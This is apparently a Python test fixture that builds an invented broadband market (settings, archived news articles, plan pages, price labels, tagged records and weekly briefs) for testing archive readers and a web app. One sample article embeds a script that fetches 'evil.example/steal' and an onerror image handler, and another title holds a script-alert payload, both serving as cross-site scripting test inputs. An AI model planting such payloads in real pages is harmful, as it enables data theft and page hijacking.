"""A small market with everything a page shows: a real archive, ledger and index, read by the real readers.

The providers are invented. Tags and the brief are made by hand, so that these tests do not need the pipeline.
"""

from __future__ import annotations

from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

from archive.reader import Archive
from archive.response import Response, Tags
from archive.writer import WarcWriter
from briefs.follow import follow_plans
from crawlers.readers import read_capture
from crowsnest.known import companies
from crowsnest.settings import Settings, load
from crowsnest.web.deps import WebContext
from index.embedded import TantivyEngine
from index.ledger import Ledger
from index.port import SearchEngine
from index.sync import sync
from market.clock import FixedClock
from market.errors import UnavailableError
from market.ids import brief_id, capture_id, expansion_id, sha256_hex
from market.places.gazetteer import Gazetteer
from market.records import (
    Article,
    Brief,
    Capture,
    Citation,
    Claim,
    Coverage,
    Evidence,
    Expansion,
    Importance,
    Issue,
    Move,
    Offer,
    RunReport,
    Section,
    SourceCheck,
    Tagged,
    TaggedCompany,
    TaggedPlace,
    TextSpan,
)

NOW = datetime(2026, 11, 24, 14, 30, tzinfo=UTC)
RUN = "20261124143000-web000"

SETTINGS = """\
[market]
name = "Upstate"
own_company = "charter"

[[territory]]
id = "upstate"
counties = ["Greenville County, SC", "Spartanburg County, SC"]

[[competitor]]
id = "bluewater"
name = "Bluewater Fiber"

[[competitor]]
id = "pinnacle-ridge"
name = "Pinnacle Ridge Broadband"

[[source]]
id = "bluewater-news"
kind = "feed"
url = "https://bluewater.example/feed.xml"
publisher = "Bluewater Fiber newsroom"
company = "bluewater"

[[source]]
id = "bluewater-plans"
kind = "page"
url = "https://bluewater.example/plans"
publisher = "Bluewater Fiber plans"
company = "bluewater"

[source.options]
segment = "business"
market = ["Greenville, SC"]

[[source]]
id = "pinnacle-labels"
kind = "labels"
url = "https://pinnacle.example/labels.csv"
publisher = "Pinnacle Ridge broadband labels"
company = "pinnacle-ridge"

[[source]]
id = "upstate-ledger"
kind = "feed"
url = "https://paper.example/rss"
publisher = "The Upstate Ledger"
home_state = "SC"

[[source]]
id = "county-paper"
kind = "feed"
url = "https://county.example/rss"
publisher = "County Paper"
enabled = false

[source.terms]
allowed = false
note = "The site's terms forbid automated reading."

[[subscriber]]
id = "leader"
name = "Dana Whitfield"
email = "dana@example.com"

[[subscriber]]
id = "second"
name = "Ruth Okafor"
email = "ruth@example.com"
"""

BUILD_TITLE = "Bluewater Fiber to bring fiber to Easley & Pickens County"
BUILD = """<!doctype html><html><head><title>{title}</title>
<meta property="og:title" content="{title}">
<meta property="article:published_time" content="2026-11-19T15:00:00Z"></head><body>
<nav><a href="/">Home</a><a href="/news">News</a></nav>
<article><h1>{title}</h1>
<p>EASLEY, S.C. - Bluewater Fiber said Thursday that it will build a fiber network in Easley that passes 8,400
homes and businesses. Construction begins in January, and the first streets are to be connected before
the summer is over.</p>
<p>The company plans to spend $11.2 million on the project. It will offer speeds of up to 5 gigabits a second
to households, and to shops and offices along Main Street, from which it expects a third of its sales.</p>
<p>The mayor said that the city had talked with three companies over two years and that residents had asked
for another choice more often than for anything else. Crews will restore each yard they cross, and the company
will hold an open house at the library in December for all who would like to know more.</p>
</article>
<script>document.title = "taken over"; fetch("https://evil.example/steal");</script>
<img src="https://evil.example/pixel.gif" onerror="document.title='taken over'" alt="Crews at work">
</body></html>""".format(title=BUILD_TITLE.replace("&", "&amp;"))
BUILD_QUOTE = "passes 8,400 homes and businesses"

UNDATED_TITLE = "Outage <script>alert(1)</script> in Spartanburg"
UNDATED = """<!doctype html><html><head><title>{title}</title>
<link rel="canonical" href="https://www.paper.example/outage"></head><body><article><h1>{title}</h1>
<p>Customers of Pinnacle Ridge Broadband in Spartanburg were without service for most of a day after a truck
hit a pole on the edge of town. The company said that a splice had to be made anew in the rain.</p>
<p>Shops took cash only, and the library closed its reading room. By the evening all lines were back, and the
company promised a credit for one day to everyone who had been cut off by the accident.</p>
</article></body></html>""".format(title=UNDATED_TITLE.replace("<", "&lt;").replace(">", "&gt;"))

FEED = """<rss version="2.0"><channel><title>News</title>
<item><title>Easley</title><link>https://bluewater.example/news/easley</link></item></channel></rss>"""

PLANS = """<!doctype html><html><head><title>Business internet plans</title></head><body>
<h1>Business internet</h1>
<div class="plans">
<div class="plan"><h3>Business 300</h3><p>300 Mbps</p><p class="price">$79.99/mo</p></div>
<div class="plan"><h3>Business Gig</h3><p>1000 Mbps</p><p class="price">$169.99/mo</p></div>
</div></body></html>"""

LABELS = """\
unique_plan_id,provider_name,service_plan_name,tier_plan_name,connection_type,monthly_price,intro_rate,\
intro_rate_price,intro_rate_time,contract_req,contract_time,typical_download_speed,typical_upload_speed,\
typical_latency
F0098765432PINNACLE300,Pinnacle Ridge Broadband,Ridge 300,NULL,Fixed,55.00,No,NULL,NULL,No,NULL,310,305,9
F0098765432PINNACLE600,Pinnacle Ridge Broadband,Ridge 600,NULL,Fixed,75.00,No,NULL,NULL,No,NULL,615,610,9
"""


@dataclass(frozen=True)
class Market:
    """What the tests look things up in."""

    context: WebContext
    captures: dict[str, Capture]
    """By a short name: "build", "undated", "plans", "labels", "again"."""
    build: Article
    undated: Article
    offers: tuple[Offer, ...]
    brief: Brief

    def without_engine(self) -> Market:
        """Return the market with its search engine away."""

        def away() -> SearchEngine:
            raise UnavailableError("engine-away", "the search engine at 127.0.0.1:9 does not answer")

        return replace(self, context=replace(self.context, engine=away))


class _Builder:
    def __init__(self, folder: Path) -> None:
        settings = folder / "market.toml"
        settings.write_text(SETTINGS, encoding="utf-8")
        self.settings: Settings = load(settings)
        self.ledger = Ledger(self.settings.ledger_url)
        self.ledger.migrate()
        self.settings.archive.mkdir(parents=True)
        self.clock = FixedClock(NOW)
        self.writer = WarcWriter(self.settings.archive, RUN, self.clock)
        self.captures: dict[str, Capture] = {}

    def capture(
        self,
        name: str,
        source_id: str,
        url: str,
        body: str,
        media_type: str,
        reader: str,
        *,
        same_as: Capture | None = None,
        days_ago: int = 0,
    ) -> list[Article | Offer]:
        """Archive one answer, put its capture into the ledger and read it; return what was read."""
        at = NOW - timedelta(days=days_ago)
        sent = b"" if same_as else body.encode()
        place = self.writer.write(
            Response(
                url=url,
                status=304 if same_as else 200,
                reason="Not Modified" if same_as else "OK",
                headers=((b"Content-Type", f"{media_type}; charset=utf-8".encode()),),
                body=sent,
                at=at,
                tags=Tags.model_validate(
                    {"source_id": source_id, "run_id": RUN, "asked_url": url, "reader": reader}
                ),
            )
        )
        capture = Capture.model_validate(
            {
                "id": capture_id(place.file, place.offset),
                "source_id": source_id,
                "run_id": RUN,
                "url": url,
                "final_url": url,
                "fetched_at": at,
                "status": 304 if same_as else 200,
                "media_type": media_type,
                "sha256": sha256_hex(sent),
                "warc_file": place.file,
                "warc_offset": place.offset,
                "changed": same_as is None,
                "same_as": same_as.id if same_as else None,
                "reader": reader,
            }
        )
        self.ledger.capture(capture)
        self.captures[name] = capture
        if same_as or reader == "feed":
            return []
        source = next(source for source in self.settings.sources if source.id == source_id)
        result = read_capture(capture, sent, source, NOW)
        self.ledger.record_reading(result.reading, result.records, result.issues)
        return list(result.records)


def span(article: Article, words: str, slot: str = "") -> Evidence:
    """Return evidence for `words` where they first stand in an article's text."""
    start = article.text.index(words)
    return Evidence(
        capture_id=article.capture_id,
        record_id=article.id,
        slot=slot,
        quote=words,
        where=TextSpan(text_sha256=article.text_sha256, start=start, end=start + len(words)),
        reader="article",
        reader_version=1,
    )


def _tags(
    article: Article, gazetteer: Gazetteer, *, company: str, name: str, place: str, build: bool
) -> Tagged:
    found = gazetteer.find(place)
    assert found is not None
    facts = ()
    if build:
        proof = span(article, BUILD_QUOTE, "passings")
        assert isinstance(proof.where, TextSpan)
        facts = (
            Expansion(
                id=expansion_id(article.id, company, "announced", (str(found.id),), proof.where.start),
                record_id=article.id,
                company=company,
                company_name=name,
                places=(found.id,),
                stage="announced",
                passings=8400,
                evidence=(proof, span(article, "$11.2 million", "investment_cents")),
            ),
        )
    return Tagged(
        record_id=article.id,
        capture_id=article.capture_id,
        companies=(TaggedCompany(id=company, name=name, role="about"),),
        places=(
            TaggedPlace(
                id=found.id,
                name=found.name,
                kind=found.kind,
                state=found.state,
                county_fips=found.county_fips,
                lat=found.lat,
                lon=found.lon,
                role="about",
            ),
        ),
        topics=("expansion",) if build else ("outage",),
        importance=Importance(score=0.8),
        key_sentence=span(article, "The company plans to spend $11.2 million on the project.")
        if build
        else None,
        expansions=facts,
        story_id=article.id,
        tagger_version=1,
    )


WITHDRAWN = "Bluewater Fiber no longer lists Business 100, last listed at $59.99 a month."


def _brief(build: Article, offer: Offer, week: str, starts: str, ends: str, at: datetime) -> Brief:
    priced = next(proof for proof in offer.evidence if proof.slot == "monthly_cents")
    line = Claim(
        text="Bluewater Fiber plans a network in Easley, SC that passes 8,400 homes and businesses.",
        evidence=(span(build, BUILD_QUOTE, "passings"),),
        numbers=("8,400",),
        kind="build",
        record_ids=(build.id,),
        tags=("announced",),
        citations=(
            Citation(
                capture_id=build.capture_id,
                url=build.url,
                publisher="Bluewater Fiber newsroom",
                title=build.title,
                on=build.published_at or at,
                dated="published",
            ),
        ),
    )
    price = Claim(
        text="Bluewater Fiber: Business 300 now costs $79.99 a month.",
        evidence=(priced,),
        citations=(
            Citation(
                capture_id=offer.capture_id,
                url="https://bluewater.example/plans",
                publisher="Bluewater Fiber plans",
                on=offer.observed_at,
                dated="captured",
            ),
        ),
        move=Move(
            kind="rise",
            what="list price",
            before_cents=7499,
            after_cents=7999,
            after_capture=offer.capture_id,
        ),
        numbers=("$79.99",),
        kind="price",
        record_ids=(offer.id,),
        detail="business, Greenville, SC",
    )
    gone = Claim(
        text=WITHDRAWN,
        evidence=(priced.model_copy(update={"capture_id": "c0", "quote": "$59.99/mo"}),),
        kind="price",
        citations=price.citations,
        move=Move(kind="withdrawn", what="list price", before_cents=5999, after_capture=offer.capture_id),
    )
    return Brief(
        id=brief_id("leader", week),
        subscriber_id="leader",
        subscriber_name="Dana Whitfield",
        market_name="Upstate",
        week=week,
        starts_on=starts,
        ends_on=ends,
        sections=(
            Section(id="prices", title="Price moves", claims=(price, gone)),
            Section(id="builds", title="Builds in your territory", claims=(line,)),
            Section(id="news", title="News", empty="No news about your territory this week."),
        ),
        coverage=Coverage(
            sources=(
                SourceCheck(
                    source_id="bluewater-news",
                    publisher="Bluewater Fiber newsroom",
                    url="https://bluewater.example/feed.xml",
                    state="checked",
                    last_good=at,
                ),
                SourceCheck(
                    source_id="upstate-ledger",
                    publisher="The Upstate Ledger",
                    url="https://paper.example/rss",
                    state="blocked",
                    note="it answers HTTP 403",
                ),
            ),
            articles_read=2,
            offers_read=4,
        ),
        generated_at=at,
    )


def build_market(folder: Path) -> Market:
    """Make the market below `folder`."""
    made = _Builder(folder)
    ledger = made.ledger
    ledger.start_run(RUN, NOW)
    made.capture(
        "feed", "bluewater-news", "https://bluewater.example/feed.xml", FEED, "application/rss+xml", "feed"
    )
    articles = made.capture(
        "build", "bluewater-news", "https://bluewater.example/news/easley", BUILD, "text/html", "article"
    )
    undated = made.capture(
        "undated",
        "upstate-ledger",
        "https://paper.example/outage",
        UNDATED,
        "text/html",
        "article",
        days_ago=2,
    )
    offers = made.capture(
        "plans",
        "bluewater-plans",
        "https://bluewater.example/plans",
        PLANS,
        "text/html",
        "offers",
        days_ago=7,
    )
    offers += made.capture(
        "labels", "pinnacle-labels", "https://pinnacle.example/labels.csv", LABELS, "text/csv", "labels"
    )
    made.capture(
        "again",
        "bluewater-plans",
        "https://bluewater.example/plans",
        "",
        "text/html",
        "offers",
        same_as=made.captures["plans"],
    )
    made.writer.close(complete=True)
    (told,), (outage,) = articles, undated
    assert isinstance(told, Article)
    assert isinstance(outage, Article)
    prices = tuple(offer for offer in offers if isinstance(offer, Offer))
    gazetteer, lexicon = Gazetteer.load(), companies(made.settings)
    ledger.record_tagged(
        [
            _tags(
                told, gazetteer, company="bluewater", name="Bluewater Fiber", place="Easley, SC", build=True
            ),
            _tags(
                outage,
                gazetteer,
                company="pinnacle-ridge",
                name="Pinnacle Ridge Broadband",
                place="Spartanburg, SC",
                build=False,
            ),
        ]
    )
    dear = next(offer for offer in prices if offer.plan_name == "Business 300")
    earlier = _brief(told, dear, "2026-W46", "2026-11-09", "2026-11-15", NOW - timedelta(days=8))
    brief = _brief(told, dear, "2026-W47", "2026-11-16", "2026-11-22", NOW - timedelta(days=1))
    ledger.save_brief(earlier)
    ledger.save_brief(brief)
    blocked = Issue(
        run_id=RUN,
        stage="collect",
        code="http-403",
        source_id="upstate-ledger",
        url="https://paper.example/rss",
        message="The site refuses us (HTTP 403); ask its owner or disable the source.",
        at=NOW,
    )
    ledger.finish_run(RunReport(run_id=RUN, started_at=NOW, finished_at=NOW, issues=(blocked,)))
    engine = TantivyEngine(made.settings.data / "index")
    follow_plans(ledger, made.settings.sources)
    sync(ledger, engine, lexicon=lexicon, gazetteer=gazetteer, zone=made.settings.market.zone)

    def opened() -> SearchEngine:
        return engine

    return Market(
        context=WebContext(
            ledger=ledger,
            engine=opened,
            archive=Archive(made.settings.archive),
            lexicon=lexicon,
            gazetteer=gazetteer,
            settings=made.settings,
            clock=made.clock,
        ),
        captures=made.captures,
        build=told,
        undated=outage,
        offers=prices,
        brief=brief,
    )
